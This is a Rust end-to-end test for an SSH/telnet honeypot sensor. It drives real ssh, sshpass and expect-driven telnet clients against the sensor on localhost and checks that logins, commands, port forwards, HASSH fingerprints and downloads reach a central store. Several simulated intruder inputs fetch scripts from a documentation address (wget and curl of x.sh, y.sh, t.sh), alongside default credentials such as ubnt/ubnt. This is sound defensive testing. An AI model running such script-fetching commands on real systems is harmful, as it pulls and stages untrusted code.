//! End to end with real clients on 127.0.0.1: OpenSSH `ssh` (through sshpass) with a password
//! and with a key, exec and `-tt`; `telnet` driven by `expect`; a malformed identification.
//! Everything must arrive at a real central and show up in 127.0.0.1's record.
//! Needs the apt packages openssh-client, sshpass, expect, telnet.

mod common;

use common::*;
use sikker_event::{AuthMethod, EventData, Protocol};
use sikker_sensor::{Sensor, SensorConfig, ShipperConfig};
use std::collections::HashSet;
use std::io::{Read, Write};
use std::net::SocketAddr;
use std::process::{Command, Stdio};
use std::time::Duration;

const SSH_OPTS: &[&str] = &[
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "LogLevel=ERROR",
    "-o",
    "ConnectTimeout=20",
];

fn ssh(addr: SocketAddr, extra: &[&str], password: Option<&str>, stdin: &[u8]) -> (i32, String) {
    let port = addr.port().to_string();
    let mut cmd = match password {
        Some(pw) => {
            let mut c = Command::new("sshpass");
            c.args(["-p", pw, "ssh"]);
            c
        }
        None => Command::new("ssh"),
    };
    cmd.args(SSH_OPTS).args(["-p", &port]).args(extra);
    let mut child = cmd
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("ssh runs");
    if let Some(mut i) = child.stdin.take() {
        let _ = i.write_all(stdin);
    }
    let out = child.wait_with_output().expect("ssh finishes");
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    (out.status.code().unwrap_or(-1), text)
}

async fn blocking<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    tokio::task::spawn_blocking(f).await.expect("client thread")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_clients_reach_central() {
    for (bin, pkg) in [
        ("ssh", "openssh-client"),
        ("sshpass", "sshpass"),
        ("expect", "expect"),
        ("telnet", "telnet"),
    ] {
        if !require(bin, pkg) {
            return;
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let (store, token) = store_with_token(&dir.path().join("central")).await;
    let central = serve(store, token, "127.0.0.1:0").await;
    // An Alpine persona: the one distribution whose stock sshd offers keyboard-interactive,
    // which this test drives too (the others name only publickey and password, or GSSAPI).
    let sensor_dir = dir.path().join("sensor");
    let alpine = (0u64..)
        .map(sikker_shell::Persona::generate)
        .find(|p| p.os.id == "alpine")
        .expect("the pool has Alpine personas");
    std::fs::create_dir_all(&sensor_dir).unwrap();
    std::fs::write(
        sensor_dir.join("persona.toml"),
        alpine.to_toml().expect("persona serialises"),
    )
    .unwrap();
    let config = SensorConfig {
        name: "e2e-1".into(),
        central: Some(central.url.clone()),
        token: Some(central.token.clone()),
        listen: vec![
            "ssh=127.0.0.1:0".parse().unwrap(),
            "telnet=127.0.0.1:0".parse().unwrap(),
        ],
        state_dir: sensor_dir,
        shipper: ShipperConfig {
            min_backoff_ms: 50,
            max_backoff_ms: 500,
            ..Default::default()
        },
        ..Default::default()
    };
    let spool_dir = config.spool_dir();
    let sensor = Sensor::start(config).await.expect("sensor starts");
    let ssh_addr = sensor.addr(Protocol::Ssh).unwrap();
    let telnet_addr = sensor.addr(Protocol::Telnet).unwrap();

    // Password + exec.
    let (code, out) = blocking(move || {
        ssh(
            ssh_addr,
            &[
                "-o",
                "PreferredAuthentications=password",
                "root@127.0.0.1",
                "uname -a",
            ],
            Some("hunter2"),
            b"",
        )
    })
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.starts_with("Linux "), "{out}");

    // Public key + exec with a download.
    let key = dir.path().join("id_ed25519");
    let status = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-f"])
        .arg(&key)
        .status()
        .unwrap();
    assert!(status.success());
    let key_arg = key.display().to_string();
    let (code, out) = blocking(move || {
        ssh(
            ssh_addr,
            &[
                "-o",
                "PreferredAuthentications=publickey",
                "-o",
                "BatchMode=yes",
                "-i",
                &key_arg,
                "admin@127.0.0.1",
                "wget http://198.51.100.1/x.sh",
            ],
            None,
            b"",
        )
    })
    .await;
    assert_eq!(code, 0, "{out}");
    let fingerprint = {
        let o = Command::new("ssh-keygen")
            .args(["-l", "-E", "sha256", "-f"])
            .arg(key.with_extension("pub"))
            .output()
            .unwrap();
        String::from_utf8_lossy(&o.stdout)
            .split_whitespace()
            .nth(1)
            .unwrap()
            .to_owned()
    };

    // Interactive with a forced PTY.
    let (code, out) = blocking(move || {
        ssh(
            ssh_addr,
            &[
                "-tt",
                "-o",
                "PreferredAuthentications=password",
                "ubnt@127.0.0.1",
            ],
            Some("ubnt"),
            b"cd /tmp\nwhoami\ncurl -O http://198.51.100.1/y.sh\nexit\n",
        )
    })
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("ubnt\r\n"), "{out}");

    // Keyboard-interactive, a remote forward (recorded, refused, the login goes on) and
    // stdio forwarding (`-W`: a direct-tcpip channel, recorded and refused as if the target
    // refused the connection).
    let (code, out) = blocking(move || {
        ssh(
            ssh_addr,
            &[
                "-o",
                "PreferredAuthentications=keyboard-interactive",
                "-o",
                "ExitOnForwardFailure=no",
                "-R",
                "127.0.0.1:8088:127.0.0.1:80",
                "oracle@127.0.0.1",
                "id",
            ],
            Some("kbdpw"),
            b"",
        )
    })
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("uid="), "{out}");
    let (code, out) = blocking(move || {
        ssh(
            ssh_addr,
            &[
                "-o",
                "PreferredAuthentications=password",
                "-W",
                "192.0.2.7:25",
                "root@127.0.0.1",
            ],
            Some("hunter2"),
            b"",
        )
    })
    .await;
    assert_ne!(code, 0, "{out}");
    assert!(out.contains("stdio forwarding failed"), "{out}");

    // A malformed identification gets OpenSSH's answer.
    let reply = blocking(move || {
        let mut s = std::net::TcpStream::connect(ssh_addr).unwrap();
        s.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
        s.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
        let mut buf = Vec::new();
        let _ = s.read_to_end(&mut buf);
        String::from_utf8_lossy(&buf).into_owned()
    })
    .await;
    assert!(reply.starts_with("SSH-2.0-OpenSSH_"), "{reply}");
    assert!(
        reply.ends_with("\r\nInvalid SSH identification string.\r\n"),
        "{reply:?}"
    );

    // Telnet through expect.
    let port = telnet_addr.port();
    let script = format!(
        r#"set timeout 20
spawn telnet 127.0.0.1 {port}
expect "login: "
send "root\r"
expect "Password: "
send "telnetpw\r"
expect -re {{[#$] $}}
send "wget http://198.51.100.1/t.sh\r"
expect -re {{[#$] $}}
send "exit\r"
expect eof
"#
    );
    let out = blocking(move || {
        Command::new("expect")
            .args(["-c", &script])
            .output()
            .expect("expect runs")
    })
    .await;
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{text}");
    assert!(text.contains("t.sh"), "{text}");

    // Everything the sensor recorded reaches central.
    sensor.spool().flush().await.unwrap();
    let spooled = spooled_events(&spool_dir);
    let sessions: Vec<_> = spooled
        .iter()
        .map(|e| e.session)
        .collect::<HashSet<_>>()
        .into_iter()
        .collect();
    let want = spooled.len();
    let ok = eventually(Duration::from_secs(30), || {
        let store = central.store.clone();
        let sessions = sessions.clone();
        async move { central_events(&store, sessions).await.len() >= want }
    })
    .await;
    assert!(ok, "central did not receive all {want} spooled events");
    let events = central_events(&central.store, sessions).await;
    let auths: Vec<_> = events
        .iter()
        .filter_map(|e| match &e.data {
            EventData::Auth(a) if a.success => Some(a.clone()),
            _ => None,
        })
        .collect();
    assert!(auths
        .iter()
        .any(|a| a.username == "root" && a.password.as_deref() == Some("hunter2")));
    assert!(auths.iter().any(|a| a.method == AuthMethod::Publickey
        && a.key_fingerprint.as_deref() == Some(fingerprint.as_str())));
    assert!(auths
        .iter()
        .any(|a| a.username == "root" && a.password.as_deref() == Some("telnetpw")));
    assert!(auths
        .iter()
        .any(|a| a.method == AuthMethod::KeyboardInteractive
            && a.username == "oracle"
            && a.password.as_deref() == Some("kbdpw")));
    let requests: HashSet<(String, String)> = events
        .iter()
        .filter_map(|e| match &e.data {
            EventData::Request(r) => Some((r.method.clone()?, r.target.clone()?)),
            _ => None,
        })
        .collect();
    // Every SSH session fingerprints its client (HASSH): OpenSSH's lists, hashed.
    let kexinits: Vec<_> = events
        .iter()
        .filter_map(|e| match &e.data {
            EventData::Request(r) if r.method.as_deref() == Some("kexinit") => Some(r),
            _ => None,
        })
        .collect();
    assert!(kexinits.len() >= 5, "{kexinits:?}");
    for r in &kexinits {
        let hassh = r.target.as_deref().unwrap_or("");
        assert!(
            hassh.len() == 32 && hassh.bytes().all(|b| b.is_ascii_hexdigit()),
            "{r:?}"
        );
        let algorithms = &r.fields["hassh_algorithms"];
        assert_eq!(algorithms.split(';').count(), 4, "{r:?}");
        assert!(algorithms.contains("curve25519-sha256"), "{r:?}");
    }
    for (method, target) in [
        ("tcpip-forward", "127.0.0.1:8088"),
        ("direct-tcpip", "192.0.2.7:25"),
    ] {
        assert!(
            requests.contains(&(method.to_owned(), target.to_owned())),
            "{method} {target} not in {requests:?}"
        );
    }
    let commands: Vec<String> = events
        .iter()
        .filter_map(|e| match &e.data {
            EventData::Command { line } => Some(line.clone()),
            _ => None,
        })
        .collect();
    for c in ["uname -a", "whoami", "wget http://198.51.100.1/t.sh"] {
        assert!(commands.iter().any(|l| l == c), "{c} not in {commands:?}");
    }
    let urls: HashSet<String> = events
        .iter()
        .filter_map(|e| match &e.data {
            EventData::Download(t) => t.url.clone(),
            _ => None,
        })
        .collect();
    for u in [
        "http://198.51.100.1/x.sh",
        "http://198.51.100.1/y.sh",
        "http://198.51.100.1/t.sh",
    ] {
        assert!(urls.contains(u), "{u} not in {urls:?}");
    }
    for e in &events {
        assert_eq!(e.sensor, "e2e-1");
        assert_eq!(e.id.get_version_num(), 7);
    }
    let record = sikker_store::Store::ip_record(&central.store, "127.0.0.1".parse().unwrap())
        .await
        .unwrap()
        .expect("127.0.0.1 has a record");
    assert!(record.sessions >= 7, "{record:?}");
    sensor.shutdown().await;
}
